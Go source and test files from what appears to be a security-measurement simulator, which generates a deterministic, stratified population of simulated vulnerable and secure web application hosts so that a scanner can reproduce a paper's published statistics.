	"mavscan/internal/simtime"
)

func smallConfig(seed int64) Config {
	return Config{
		Seed:            seed,
		HostScale:       40000,
		VulnScale:       20,
		BackgroundScale: 1000000,
		WildcardScale:   1000000,
	}
}

func TestGenerateGroundTruthConsistency(t *testing.T) {
	w, err := Generate(smallConfig(1))
	if err != nil {
		t.Fatal(err)
	}
	for i := range w.Specs {
		spec := &w.Specs[i]
		if spec.Instance.Vulnerable() != spec.Vulnerable {
			t.Errorf("%s at %s: instance state disagrees with ground truth", spec.App, spec.IP)
		}
		if spec.Version != spec.Instance.Version() {
			t.Errorf("%s: spec version %s vs instance %s", spec.App, spec.Version, spec.Instance.Version())
		}
		if _, ok := w.SpecFor(spec.IP); !ok {
			t.Errorf("%s not indexed", spec.IP)
		}
		if _, ok := w.Net.Host(spec.IP); !ok {
			t.Errorf("%s has no simnet host", spec.IP)
		}
	}
}

func TestGenerateStrataCounts(t *testing.T) {
	w, err := Generate(smallConfig(2))
	if err != nil {
		t.Fatal(err)
	}
	perApp := map[mav.App]struct{ vuln, secure int }{}
	for _, spec := range w.Specs {
		c := perApp[spec.App]
		if spec.Vulnerable {
			c.vuln++
		} else {
			c.secure++
		}
		perApp[spec.App] = c
	}
	for _, info := range mav.InScopeApps() {
		hosts, mavs := Table3Targets(info.App)
		// Stratum sizes round half up against Table 3 so small strata land
		// on the nearest integer of their share instead of truncating.
		want := roundHalfUp(mavs, 20)
		if mavs > 0 && want == 0 {
			want = 1
		}
		if got := perApp[info.App].vuln; got != want {
			t.Errorf("%s: %d vulnerable, want %d", info.App, got, want)
		}
		wantSecure := roundHalfUp(hosts-mavs, 40000)
		if wantSecure == 0 && hosts > mavs {
			wantSecure = 1
		}
		if got := perApp[info.App].secure; got != wantSecure {
			t.Errorf("%s: %d secure, want %d", info.App, got, wantSecure)
		}
	}
}

// TestStrataRoundingHalfUp pins the per-app stratum sizes at the scale
// divisors the paper-replication studies actually run, guarding the
// rounding convention: floor-then-bump undercounted every stratum whose
// fractional share was ≥ .5 (e.g. GoCD's 36 MAVs at VulnScale 20 must
// yield 2 hosts, not 1).
func TestStrataRoundingHalfUp(t *testing.T) {
	for _, scale := range []int{1, 10, 100} {
		cfg := Config{
			Seed: 11, HostScale: scale * 4000, VulnScale: scale,
			BackgroundScale: -1, WildcardScale: -1,
		}
		w, err := Generate(cfg)
		if err != nil {
			t.Fatal(err)
		}
		perApp := map[mav.App]struct{ vuln, secure int }{}
		for _, spec := range w.Specs {
			c := perApp[spec.App]
			if spec.Vulnerable {
				c.vuln++
			} else {
				c.secure++
			}
			perApp[spec.App] = c
		}
		for _, info := range mav.InScopeApps() {
			hosts, mavs := Table3Targets(info.App)
			wantVuln := roundHalfUp(mavs, cfg.VulnScale)
			if mavs > 0 && wantVuln == 0 {
				wantVuln = 1
			}
			wantSecure := roundHalfUp(hosts-mavs, cfg.HostScale)
			if wantSecure == 0 && hosts > mavs {
				wantSecure = 1
			}
			got := perApp[info.App]
			if got.vuln != wantVuln || got.secure != wantSecure {
				t.Errorf("scale %d, %s: got (%d vuln, %d secure), want (%d, %d)",
					scale, info.App, got.vuln, got.secure, wantVuln, wantSecure)
			}
		}
	}
}

// Spot-check the convention itself at the divisors of the regression grid.
func TestRoundHalfUp(t *testing.T) {
	cases := []struct{ n, d, want int }{
		{36, 20, 2},   // GoCD MAVs at VulnScale 20: .8 rounds up
		{345, 100, 3}, // WordPress MAVs at VulnScale 100: .45 rounds down
		{50, 100, 1},  // exactly half rounds up
		{49, 100, 0},
		{0, 7, 0},
		{2440, 1, 2440}, // identity at scale 1
	}
	for _, c := range cases {
		if got := roundHalfUp(c.n, c.d); got != c.want {
			t.Errorf("roundHalfUp(%d, %d) = %d, want %d", c.n, c.d, got, c.want)
		}
	}
}

func TestGenerateDeterministic(t *testing.T) {
	w1, err := Generate(smallConfig(7))
	if err != nil {
		t.Fatal(err)
	}
	w2, err := Generate(smallConfig(7))
	if err != nil {
		t.Fatal(err)
	}
	if len(w1.Specs) != len(w2.Specs) {
		t.Fatalf("sizes differ: %d vs %d", len(w1.Specs), len(w2.Specs))
	}
	for i := range w1.Specs {
		a, b := w1.Specs[i], w2.Specs[i]
		if a.IP != b.IP || a.App != b.App || a.Version != b.Version || a.Vulnerable != b.Vulnerable {
			t.Fatalf("spec %d differs: %+v vs %+v", i, a, b)
		}
	}
}

func TestDesignWeightsInvertSampling(t *testing.T) {
	w, err := Generate(smallConfig(3))
	if err != nil {
		t.Fatal(err)
	}
	for _, info := range mav.InScopeApps() {
		hosts, mavs := Table3Targets(info.App)
		sw, vw := w.Weights(info.App)
		var nSecure, nVuln int
		for _, spec := range w.Specs {
			if spec.App != info.App {
				continue
			}
			if spec.Vulnerable {
				nVuln++
			} else {
				nSecure++
			}
		}
		if est := float64(nSecure) * sw; nSecure > 0 && (est < float64(hosts-mavs)*0.99 || est > float64(hosts-mavs)*1.01) {
			t.Errorf("%s: secure estimate %.0f, want %d", info.App, est, hosts-mavs)
		}
		if est := float64(nVuln) * vw; nVuln > 0 && (est < float64(mavs)*0.99 || est > float64(mavs)*1.01) {
			t.Errorf("%s: vulnerable estimate %.0f, want %d", info.App, est, mavs)
		}
	}
}

func TestVulnerablePlacementFollowsTable4(t *testing.T) {
	w, err := Generate(Config{Seed: 4, HostScale: 40000, VulnScale: 2, BackgroundScale: -1, WildcardScale: -1})
	if err != nil {
		t.Fatal(err)
	}
	hosting, total := 0, 0
	countries := map[string]int{}
	for _, spec := range w.VulnerableSpecs() {
		rec := w.Geo.Lookup(spec.IP)
		countries[rec.Country]++
		if rec.Hosting {
			hosting++
		}
		total++
	}
	if total == 0 {
		t.Fatal("no vulnerable hosts")
	}
	frac := float64(hosting) / float64(total)
	if frac < 0.5 || frac > 0.8 {
		t.Errorf("hosting share %.2f, want ≈0.64", frac)
	}
	if countries["United States"] < countries["Germany"] {
		t.Error("US must dominate Germany (Table 4)")
	}
	if countries["China"] < countries["France"] {
		t.Error("China must dominate France (Table 4)")
	}
}

func TestVersionSamplingRespectsVulnerabilityConstraints(t *testing.T) {
	w, err := Generate(Config{Seed: 5, HostScale: 40000, VulnScale: 1, BackgroundScale: -1, WildcardScale: -1})
	if err != nil {
		t.Fatal(err)
	}
	oldJNB, newJNB := 0, 0
	for _, spec := range w.VulnerableSpecs() {
		switch spec.App {
		case mav.Adminer, mav.Joomla:
			if !apps.InsecureDefault(spec.App, spec.Version) {
				t.Errorf("vulnerable %s on safe release %s", spec.App, spec.Version)
			}
		case mav.JupyterNotebook:
			if apps.InsecureDefault(spec.App, spec.Version) {
				oldJNB++
			} else {
				newJNB++
			}
		}
	}
	// Figure 1: most vulnerable notebooks run pre-4.3 releases.
	if oldJNB <= newJNB {
		t.Errorf("vulnerable J-Notebook split old=%d new=%d, want old-dominated", oldJNB, newJNB)
	}
}

func TestChurnTargetsFigure2(t *testing.T) {
	w, err := Generate(Config{Seed: 6, HostScale: 40000, VulnScale: 4, BackgroundScale: -1, WildcardScale: -1})
	if err != nil {
		t.Fatal(err)
	}
	start := ScanDate
	sim := simtime.NewSim(start)
	fixes, offlines, updates := ScheduleChurn(sim, w, ChurnConfig{Seed: 6, Start: start})
	total := len(w.VulnerableSpecs())
	deaths := fixes + offlines
	// ~47% of hosts stop being vulnerable over the window; fixes are rare.
	if frac := float64(deaths) / float64(total); frac < 0.30 || frac > 0.60 {
		t.Errorf("death fraction %.2f, want ≈0.47", frac)
	}
	if fixes > deaths/3 {
		t.Errorf("fixes = %d of %d deaths, want a small minority", fixes, deaths)
	}
	if updates == 0 {
		t.Error("no version updates scheduled (paper: 2.4%)")
	}
	// Run the events; afterwards the ground truth must reflect them.
	sim.Run()
	stillVuln := 0
	for _, spec := range w.VulnerableSpecs() {
		host, _ := w.Net.Host(spec.IP)
		if host.Online() && !host.Firewalled() && spec.Instance.Vulnerable() {
			stillVuln++
		}
	}
	if frac := float64(stillVuln) / float64(total); frac < 0.40 || frac > 0.70 {
		t.Errorf("still-vulnerable fraction %.2f, want ≈0.53", frac)
	}
}

func TestChurnUpgradeKeepsVulnerability(t *testing.T) {
	w, err := Generate(Config{Seed: 8, HostScale: 40000, VulnScale: 2, BackgroundScale: -1, WildcardScale: -1})
	if err != nil {
		t.Fatal(err)
	}
	// Find a vulnerable Hadoop spec and upgrade it manually.
	for _, spec := range w.VulnerableSpecs() {
		if spec.App != mav.Hadoop || spec.Version == apps.LatestVersion(mav.Hadoop) {
			continue
		}
		upgradeSpec(w, spec)
		if spec.Version != apps.LatestVersion(mav.Hadoop) {
			t.Fatalf("upgrade did not change version: %s", spec.Version)
		}
		if !spec.Instance.Vulnerable() {
			t.Fatal("upgrade must keep the misconfiguration (updated but still vulnerable)")
		}
		return
	}
	t.Skip("no upgradable Hadoop spec in this world")
}

func TestSampleDeathHourMonotone(t *testing.T) {
	prev := -1.0
	for _, u := range []float64{0.01, 0.05, 0.15, 0.25, 0.35, 0.46} {
		h, ok := sampleDeathHour(u)
		if !ok {
			t.Fatalf("u=%v should die", u)
		}
		if h < prev {
			t.Fatalf("death hour not monotone at u=%v", u)
		}
		prev = h
	}
	if _, ok := sampleDeathHour(0.5); ok {
		t.Fatal("u=0.5 must survive (curve tops out at 0.47)")
	}
}
