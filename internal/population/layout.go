package population

import (
	"fmt"
	"math/rand"
	"net"
	"net/http"
	"net/netip"
	"sort"
	"sync"

	"mavscan/internal/adversary"
	"mavscan/internal/apps"
	"mavscan/internal/geo"
	"mavscan/internal/httpsim"
	"mavscan/internal/iprange"
	"mavscan/internal/mav"
	"mavscan/internal/portscan"
	"mavscan/internal/simnet"
)

// The layout is the heart of the lazy generator: it makes the simulated
// world a pure function of (cfg.Seed, address) instead of a data structure.
//
// The population is organized as an ordered list of *strata* — for each
// in-scope application a vulnerable and a secure stratum, then one
// background-noise stratum per Table-2 port, then the wildcard-artifact
// stratum. Each stratum's host count follows from Table 3 / Table 2 and the
// sampling divisors alone, and is apportioned across the geo allocations by
// largest-remainder rounding of fixed weights (the Table-4 placement
// weights for vulnerable strata, uniform for everything else). Inside one
// allocation the occupied slots [0, occupied) are scattered over the
// allocation's address block by a seeded BlackRock permutation.
//
// Both directions are O(log strata) arithmetic:
//
//	addrOf(stratum, i):  quota cumsums → (allocation, slot) → Forward(perm)
//	locate(address):     allocation search → Inverse(perm) → slot cumsums
//
// so world setup is O(strata), independent of the population size, and any
// probed address classifies as app host / background / wildcard / empty
// without enumerating anything. Per-host attributes (version, port, TLS,
// instance options) are drawn from a rand.Rand seeded with a splitmix64
// hash of (cfg.Seed, address), so the eager walk and the lazy miss path
// derive byte-identical hosts.

type stratumKind uint8

const (
	kindApp stratumKind = iota
	kindBackground
	kindWildcard
	kindHostile
)

// stratum is one homogeneous slice of the population.
type stratum struct {
	kind stratumKind
	// kindApp fields.
	info       mav.Info
	vulnerable bool
	// ordBase is the global app-host ordinal of this stratum's first host;
	// TLS hosts derive their certificate domain from it, reproducing the
	// eager generator's generation-order naming.
	ordBase uint64
	// kindBackground fields: the port and the protocol thresholds at this
	// world's scale (r < httpN → HTTP, r < httpN+httpsN → HTTPS, else a
	// non-HTTP TCP service).
	port          int
	httpN, httpsN int

	count uint64
	// quotas spans this stratum's index space [0, count) across the geo
	// allocations.
	quotas iprange.Buckets
}

// allocLayout is the per-allocation view: which span of the allocation's
// occupied slots belongs to which stratum, and the permutation scattering
// slots over the address block.
type allocLayout struct {
	start uint32 // first address of the allocation, host byte order
	size  uint64 // number of addresses
	// slots spans the occupied slot space [0, occupied) by stratum index.
	slots iprange.Buckets
	perm  portscan.Permutation
}

type layout struct {
	cfg    Config
	db     *geo.DB
	ca     *httpsim.CA
	strata []stratum
	allocs []allocLayout
	// kinds caches the background handler palette (stable order).
	kinds []apps.BackgroundKind
	// ports caches the scan-port palette hostile hosts draw from.
	ports   []int
	weights map[mav.App]strataWeights

	appHosts   uint64 // total application hosts (vulnerable + secure)
	background uint64
	wildcard   uint64
	hostile    uint64
}

// splitmix64 is the standard finalizing mixer (the same one the BlackRock
// round keys use); per-host seeds are splitmix64 hashes of (Seed, address).
func splitmix64(z uint64) uint64 {
	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9
	z = (z ^ (z >> 27)) * 0x94d049bb133111eb
	return z ^ (z >> 31)
}

// hostSeed derives the per-host RNG seed from the world seed and the
// address, the "(seed, address) → host" half of the lazy contract.
func hostSeed(seed int64, key uint32) int64 {
	z := splitmix64(uint64(seed) ^ 0x9e3779b97f4a7c15)
	return int64(splitmix64(z ^ uint64(key)))
}

// ipKey flattens an IPv4 address into its big-endian word.
func ipKey(ip netip.Addr) uint32 {
	b := ip.As4()
	return uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
}

func keyAddr(v uint32) netip.Addr {
	return netip.AddrFrom4([4]byte{byte(v >> 24), byte(v >> 16), byte(v >> 8), byte(v)})
}

// roundHalfUp divides n by d rounding half up, so small strata land on the
// nearest integer of their Table-3 share instead of truncating toward zero.
func roundHalfUp(n, d int) int { return (n + d/2) / d }

// apportion splits count across len(weights) buckets proportionally, by
// largest-remainder rounding (floor everything, then hand the leftovers to
// the largest fractional remainders, ties to the lower index). The result
// is exact — it sums to count — and deterministic.
func apportion(count uint64, weights []float64) []uint64 {
	out := make([]uint64, len(weights))
	var total float64
	for _, w := range weights {
		total += w
	}
	if count == 0 || total <= 0 {
		return out
	}
	type rem struct {
		idx  int
		frac float64
	}
	rems := make([]rem, len(weights))
	var assigned uint64
	for i, w := range weights {
		exact := float64(count) * w / total
		fl := uint64(exact)
		out[i] = fl
		assigned += fl
		rems[i] = rem{idx: i, frac: exact - float64(fl)}
	}
	sort.SliceStable(rems, func(a, b int) bool {
		if rems[a].frac != rems[b].frac {
			return rems[a].frac > rems[b].frac
		}
		return rems[a].idx < rems[b].idx
	})
	for i := uint64(0); i < count-assigned; i++ {
		out[rems[i%uint64(len(rems))].idx]++
	}
	return out
}

// scaledGeo widens the default address plan to the next power of two at or
// above popScale, so host density never exceeds the 1× plan's.
func scaledGeo(popScale int) (*geo.DB, error) {
	bits := 0
	for 1<<bits < popScale {
		bits++
	}
	return geo.Scaled(bits)
}

// newLayout precomputes the stratum table and the per-allocation quota and
// slot cumsums — O(strata × allocations) work and memory, independent of
// the population size.
func newLayout(cfg Config, db *geo.DB, ca *httpsim.CA) (*layout, error) {
	l := &layout{
		cfg:     cfg,
		db:      db,
		ca:      ca,
		kinds:   apps.BackgroundKinds(),
		ports:   mav.ScanPorts(),
		weights: make(map[mav.App]strataWeights),
	}
	allocs := db.Allocations()

	// Table-4 placement weights, resolved to allocation indices the same
	// way the eager generator resolved them (first matching allocation).
	vulnW := make([]float64, len(allocs))
	for _, pw := range vulnPlacement {
		for i := range allocs {
			if allocs[i].Record.ASN == pw.asn && allocs[i].Record.Country == pw.country {
				vulnW[i] += float64(pw.weight)
				break
			}
		}
	}
	uniformW := make([]float64, len(allocs))
	for i := range uniformW {
		uniformW[i] = 1
	}

	scale := cfg.PopScale
	for _, info := range mav.InScopeApps() {
		targets := table3[info.App]
		nVuln := roundHalfUp(targets.MAVs*scale, cfg.VulnScale)
		if targets.MAVs > 0 && nVuln == 0 {
			nVuln = 1 // keep rare strata (Polynote, Adminer) represented
		}
		nSecure := roundHalfUp((targets.Hosts-targets.MAVs)*scale, cfg.HostScale)
		if nSecure == 0 && targets.Hosts > targets.MAVs {
			nSecure = 1
		}
		// Design weights invert the sampling back to the paper's absolute
		// numbers regardless of PopScale.
		sw := strataWeights{}
		if nSecure > 0 {
			sw.secure = float64(targets.Hosts-targets.MAVs) / float64(nSecure)
		}
		if nVuln > 0 {
			sw.vuln = float64(targets.MAVs) / float64(nVuln)
		}
		l.weights[info.App] = sw
		l.strata = append(l.strata,
			stratum{kind: kindApp, info: info, vulnerable: true, ordBase: l.appHosts, count: uint64(nVuln)})
		l.appHosts += uint64(nVuln)
		l.strata = append(l.strata,
			stratum{kind: kindApp, info: info, vulnerable: false, ordBase: l.appHosts, count: uint64(nSecure)})
		l.appHosts += uint64(nSecure)
	}
	if cfg.BackgroundScale > 0 {
		for _, bp := range backgroundPorts {
			n := bp.Open * scale / cfg.BackgroundScale
			l.strata = append(l.strata, stratum{
				kind:   kindBackground,
				port:   bp.Port,
				httpN:  bp.HTTP * scale / cfg.BackgroundScale,
				httpsN: bp.HTTPS * scale / cfg.BackgroundScale,
				count:  uint64(n),
			})
			l.background += uint64(n)
		}
	}
	if cfg.WildcardScale > 0 {
		n := uint64(3_000_000 * scale / cfg.WildcardScale)
		l.strata = append(l.strata, stratum{kind: kindWildcard, count: n})
		l.wildcard += n
	}
	if cfg.HostileRate > 0 {
		// The hostile stratum sizes itself so hostile hosts make up
		// HostileRate of the total population, and it is appended strictly
		// LAST: every benign stratum keeps its slot starts and its
		// per-allocation permutation draws, so the benign world at a given
		// seed is byte-identical whether or not adversaries are seeded.
		benign := l.appHosts + l.background + l.wildcard
		n := uint64(cfg.HostileRate/(1-cfg.HostileRate)*float64(benign) + 0.5)
		if n > 0 {
			l.strata = append(l.strata, stratum{kind: kindHostile, count: n})
			l.hostile = n
		}
	}

	for s := range l.strata {
		st := &l.strata[s]
		w := uniformW
		if st.kind == kindApp && st.vulnerable {
			w = vulnW
		}
		st.quotas = iprange.NewBuckets(apportion(st.count, w))
	}
	for p := range allocs {
		prefix := allocs[p].Prefix
		size := uint64(1) << (32 - prefix.Bits())
		sizes := make([]uint64, len(l.strata))
		for s := range l.strata {
			sizes[s] = l.strata[s].quotas.Size(p)
		}
		slots := iprange.NewBuckets(sizes)
		if slots.Total() > size {
			return nil, fmt.Errorf("population: allocation %s holds %d addresses but needs %d hosts; raise the scale divisors or PopScale",
				prefix, size, slots.Total())
		}
		l.allocs = append(l.allocs, allocLayout{
			start: ipKey(prefix.Addr()),
			size:  size,
			slots: slots,
			perm:  portscan.NewPermutation(size, splitmix64(uint64(cfg.Seed)+0x9e3779b97f4a7c15*uint64(p+1))),
		})
	}
	return l, nil
}

// addrOf returns the address of host (stratum s, index idx), idx in
// [0, strata[s].count).
func (l *layout) addrOf(s int, idx uint64) netip.Addr {
	p, off := l.strata[s].quotas.Find(idx)
	a := &l.allocs[p]
	j := a.slots.Start(s) + off
	return keyAddr(a.start + uint32(a.perm.Forward(j)))
}

// locate is the inverse of addrOf: it classifies an arbitrary address as
// belonging to (stratum, index) or empty, in O(log) time with no locks and
// no allocation — the occupancy index of the lazy world.
func (l *layout) locate(ip netip.Addr) (s int, idx uint64, ok bool) {
	if !ip.Is4() {
		return 0, 0, false
	}
	v := ipKey(ip)
	p := sort.Search(len(l.allocs), func(i int) bool { return l.allocs[i].start > v }) - 1
	if p < 0 {
		return 0, 0, false
	}
	a := &l.allocs[p]
	off := uint64(v - a.start)
	if off >= a.size {
		return 0, 0, false
	}
	j := a.perm.Inverse(off)
	if j >= a.slots.Total() {
		return 0, 0, false // inside the allocation but unoccupied
	}
	s, local := a.slots.Find(j)
	return s, l.strata[s].quotas.Start(p) + local, true
}

// lazyTLSHandler defers certificate minting to the first accepted
// connection, so Stage-I materialization never pays an ECDSA keygen. The
// CA's leaf cache keys on the names, which makes the certificate stable
// across host eviction and re-materialization.
func lazyTLSHandler(ca *httpsim.CA, h http.Handler, names ...string) simnet.ConnHandler {
	var once sync.Once
	var inner simnet.ConnHandler
	return func(c net.Conn) {
		once.Do(func() {
			cert, err := ca.CertFor(names...)
			if err != nil {
				return
			}
			inner = httpsim.TLSConnHandler(h, cert)
		})
		if inner == nil {
			c.Close()
			return
		}
		inner(c)
	}
}

// closeHandler models an open TCP service that speaks no HTTP (SSH banners
// and the like): accept, hang up.
func closeHandler(c net.Conn) { c.Close() }

// hostileDraw picks a hostile host's archetype and listening port from its
// per-host RNG. It is factored out so build and World.HostileHosts consume
// the draw in the same order and derive the same ground truth.
func (l *layout) hostileDraw(rng *rand.Rand) (adversary.Archetype, int) {
	arch := adversary.Archetype(rng.Intn(int(adversary.NumArchetypes)))
	port := l.ports[rng.Intn(len(l.ports))]
	return arch, port
}

// build derives the host (and, for app strata, the ground-truth spec) at
// (stratum s, index idx, address ip). It is the pure function both world
// modes share: the eager walk calls it for every (s, idx) in order, the
// lazy resolver calls it on first probe — with identical results, because
// every random attribute comes from the (Seed, address)-keyed RNG.
func (l *layout) build(s int, idx uint64, ip netip.Addr) (*simnet.Host, *HostSpec, error) {
	st := &l.strata[s]
	rng := rand.New(rand.NewSource(hostSeed(l.cfg.Seed, ipKey(ip))))
	host := simnet.NewHost(ip)
	switch st.kind {
	case kindWildcard:
		host.SetWildcardOpen(true)
		return host, nil, nil
	case kindHostile:
		arch, port := l.hostileDraw(rng)
		host.Bind(port, adversary.Handler(arch, ip, port, nil))
		return host, nil, nil
	case kindBackground:
		// Protocol per Table 2's response ratios at this stratum's scale;
		// the handler palette draw mirrors the eager generator's.
		r := rng.Intn(int(st.count))
		handler := apps.Background(l.kinds[rng.Intn(len(l.kinds))])
		switch {
		case r < st.httpN:
			host.Bind(st.port, httpsim.ConnHandler(handler))
		case r < st.httpN+st.httpsN:
			host.Bind(st.port, lazyTLSHandler(l.ca, handler, ip.String()))
		default:
			host.Bind(st.port, closeHandler)
		}
		return host, nil, nil
	}

	info := st.info
	vulnerable := st.vulnerable
	version := sampleVersion(rng, info.App, vulnerable)
	// Adminer's MAV needs a pre-4.6.3 release (empty passwords are refused
	// outright after that), and Joomla's install hijack is defeated by the
	// 3.7.4 ownership check — vulnerable hosts must run older releases.
	if vulnerable && (info.App == mav.Adminer || info.App == mav.Joomla) && !apps.InsecureDefault(info.App, version) {
		tl := apps.Timeline(info.App)
		for i := len(tl) - 1; i >= 0; i-- {
			if apps.InsecureDefault(info.App, tl[i].Version) {
				version = tl[i].Version
				break
			}
		}
	}
	instCfg, byDefault := instanceConfig(rng, info.App, version, vulnerable, l.cfg)
	inst, err := apps.New(instCfg)
	if err != nil {
		return nil, nil, err
	}
	if inst.Vulnerable() != vulnerable {
		return nil, nil, fmt.Errorf("population: %s@%s generated state mismatch (want vulnerable=%v)", info.App, version, vulnerable)
	}
	port := info.Ports[rng.Intn(len(info.Ports))]
	useTLS := rng.Float64() < tlsLikelihood(info.App, port)
	if port == 443 {
		useTLS = true
	}
	spec := &HostSpec{
		IP: ip, App: info.App, Port: port, TLS: useTLS,
		Version: version, Instance: inst,
		Vulnerable: vulnerable, ByDefault: byDefault,
	}
	if useTLS {
		// Each deployment owns its own registrable domain so the
		// disclosure workflow derives distinct security@ contacts. The
		// ordinal is the host's global generation-order index.
		spec.Domain = fmt.Sprintf("www.host-%04d.org", st.ordBase+idx)
		host.Bind(port, lazyTLSHandler(l.ca, inst.Handler(), spec.Domain, ip.String()))
	} else {
		host.Bind(port, httpsim.ConnHandler(inst.Handler()))
	}
	return host, spec, nil
}
