package population

import (
	"fmt"
	"net/netip"
	"testing"
)

// fingerprint flattens the identity-bearing fields of a spec; two hosts
// with equal fingerprints were derived identically.
func fingerprint(s *HostSpec) string {
	return fmt.Sprintf("%s|%s|%d|%v|%s|%s|%v|%v",
		s.IP, s.App, s.Port, s.TLS, s.Domain, s.Version, s.Vulnerable, s.ByDefault)
}

// TestLazyMatchesEagerGoldenFingerprint is the tentpole contract: the host
// at an address is a pure function of (seed, address), so deriving it
// lazily on demand and deriving it in the eager generation walk must agree
// on every field — app, port, TLS, domain, version, stratum.
func TestLazyMatchesEagerGoldenFingerprint(t *testing.T) {
	cfg := smallConfig(21)
	eager, err := Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	lcfg := cfg
	lcfg.Lazy = true
	lazy, err := Generate(lcfg)
	if err != nil {
		t.Fatal(err)
	}
	if lazy.Net.NumHosts() != 0 {
		t.Fatalf("lazy world pre-registered %d hosts; setup must be O(strata)", lazy.Net.NumHosts())
	}
	if lazy.TotalHosts() != eager.TotalHosts() {
		t.Fatalf("population totals differ: lazy %d, eager %d", lazy.TotalHosts(), eager.TotalHosts())
	}
	if len(eager.Specs) == 0 {
		t.Fatal("eager world generated no app hosts")
	}
	// Every eager app host, probed lazily, must re-derive identically.
	for i := range eager.Specs {
		es := &eager.Specs[i]
		ls, ok := lazy.SpecFor(es.IP)
		if !ok {
			t.Fatalf("lazy world has no host at %s", es.IP)
		}
		if fingerprint(es) != fingerprint(ls) {
			t.Fatalf("spec mismatch at %s:\n eager %s\n lazy  %s", es.IP, fingerprint(es), fingerprint(ls))
		}
	}
	// And addresses empty in the eager world must be empty lazily: sample
	// around every occupied address.
	misses := 0
	for i := range eager.Specs {
		probe := eager.Specs[i].IP.Next()
		if _, ok := eager.SpecFor(probe); ok {
			continue
		}
		if _, registered := eager.Net.Host(probe); registered {
			continue // background or wildcard host, occupied in both worlds
		}
		if _, ok := lazy.SpecFor(probe); ok {
			t.Fatalf("lazy world materialized a spec at empty address %s", probe)
		}
		misses++
	}
	if misses == 0 {
		t.Fatal("sampled no empty addresses; test lost its negative half")
	}
}

// TestLazyVulnerableSpecsMatchEager checks the pinned lazy vulnerable set
// against the eager generation-order one — churn consumes this sequence,
// so order matters, not just membership.
func TestLazyVulnerableSpecsMatchEager(t *testing.T) {
	cfg := smallConfig(22)
	eager, err := Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	lcfg := cfg
	lcfg.Lazy = true
	lazy, err := Generate(lcfg)
	if err != nil {
		t.Fatal(err)
	}
	ev, lv := eager.VulnerableSpecs(), lazy.VulnerableSpecs()
	if len(ev) != len(lv) {
		t.Fatalf("vulnerable counts differ: eager %d, lazy %d", len(ev), len(lv))
	}
	for i := range ev {
		if fingerprint(ev[i]) != fingerprint(lv[i]) {
			t.Fatalf("vulnerable spec %d differs:\n eager %s\n lazy  %s", i, fingerprint(ev[i]), fingerprint(lv[i]))
		}
	}
}

// TestLazyEvictionDeterminism probes far more addresses than the cache
// holds, forcing eviction, then re-probes everything: a re-materialized
// host must carry the same derivation as its first life, and the cache
// must stay within its bound (plus pins) throughout.
func TestLazyEvictionDeterminism(t *testing.T) {
	cfg := smallConfig(23)
	cfg.Lazy = true
	cfg.CacheHosts = 64 // 1 per shard: maximal churn
	w, err := Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	// First pass: collect each app host's fingerprint via the layout walk.
	l := w.layout
	first := map[netip.Addr]string{}
	for s := range l.strata {
		if l.strata[s].kind != kindApp {
			continue
		}
		for idx := uint64(0); idx < l.strata[s].count; idx++ {
			ip := l.addrOf(s, idx)
			spec, ok := w.SpecFor(ip)
			if !ok {
				t.Fatalf("no spec at %s", ip)
			}
			first[ip] = fingerprint(spec)
		}
	}
	if len(first) <= cfg.CacheHosts {
		t.Fatalf("only %d app hosts; too few to exercise eviction at cap %d", len(first), cfg.CacheHosts)
	}
	pinned := len(w.VulnerableSpecs())
	if got, bound := w.MaterializedHosts(), cfg.CacheHosts+pinned; got > bound {
		t.Fatalf("cache holds %d hosts, bound is %d (%d cap + %d pinned)", got, bound, cfg.CacheHosts, pinned)
	}
	// Second pass: every re-materialization must reproduce the first life.
	for ip, want := range first {
		spec, ok := w.SpecFor(ip)
		if !ok {
			t.Fatalf("host at %s vanished after eviction", ip)
		}
		if got := fingerprint(spec); got != want {
			t.Fatalf("re-materialization of %s diverged:\n first  %s\n second %s", ip, want, got)
		}
	}
	// Pinned entries must have survived the churn of both passes.
	for _, spec := range w.VulnerableSpecs() {
		key := ipKey(spec.IP)
		sh := w.cache.shardFor(key)
		sh.mu.Lock()
		e, ok := sh.entries[key]
		sh.mu.Unlock()
		if !ok || !e.pinned {
			t.Fatalf("vulnerable host %s not pinned in cache", spec.IP)
		}
		if e.spec != spec {
			t.Fatalf("vulnerable host %s was rebuilt; churn mutations would be lost", spec.IP)
		}
	}
}

// TestLazyDropRebuildsIdentically exercises the explicit eviction hook:
// dropping a cached host and re-deriving it must yield an identical spec
// and an identically-behaving simnet host.
func TestLazyDropRebuildsIdentically(t *testing.T) {
	cfg := smallConfig(24)
	cfg.Lazy = true
	w, err := Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	st := -1
	for s := range w.layout.strata {
		if w.layout.strata[s].kind == kindApp && w.layout.strata[s].count > 0 {
			st = s
			break
		}
	}
	if st < 0 {
		t.Fatal("no populated app stratum")
	}
	ip := w.layout.addrOf(st, 0)
	before, ok := w.SpecFor(ip)
	if !ok {
		t.Fatalf("no spec at %s", ip)
	}
	fp := fingerprint(before)
	w.cache.drop(ipKey(ip))
	after, ok := w.SpecFor(ip)
	if !ok {
		t.Fatalf("no spec at %s after drop", ip)
	}
	if before == after {
		t.Fatal("drop did not evict; identical pointer returned")
	}
	if got := fingerprint(after); got != fp {
		t.Fatalf("rebuilt spec differs:\n first  %s\n second %s", fp, got)
	}
}

// TestLazyWorldProbesLikeEager drives the simnet dial path end to end: a
// TCP connection to a lazily-derived host must reach a live service.
func TestLazyWorldProbesLikeEager(t *testing.T) {
	cfg := smallConfig(25)
	cfg.Lazy = true
	w, err := Generate(cfg)
	if err != nil {
		t.Fatal(err)
	}
	specs := w.VulnerableSpecs()
	if len(specs) == 0 {
		t.Fatal("no vulnerable hosts")
	}
	spec := specs[0]
	if err := w.Net.ProbePort(spec.IP, spec.Port); err != nil {
		t.Fatalf("probe of %s:%d failed: %v", spec.IP, spec.Port, err)
	}
	host, ok := w.Net.Host(spec.IP)
	if !ok {
		t.Fatalf("Net.Host(%s) missed after probe", spec.IP)
	}
	if host.IP() != spec.IP {
		t.Fatalf("resolved host has address %s, want %s", host.IP(), spec.IP)
	}
}
