// Package population generates the simulated internet the pipeline scans.
//
// The generator encodes the published marginals of the paper's measurement
// (Table 3 per-application host and MAV counts, Table 4 geography, Figure 1
// version-age structure, Table 2 background-port noise) as a *stratified
// sample*: the large secure population is sampled at 1/HostScale, the small
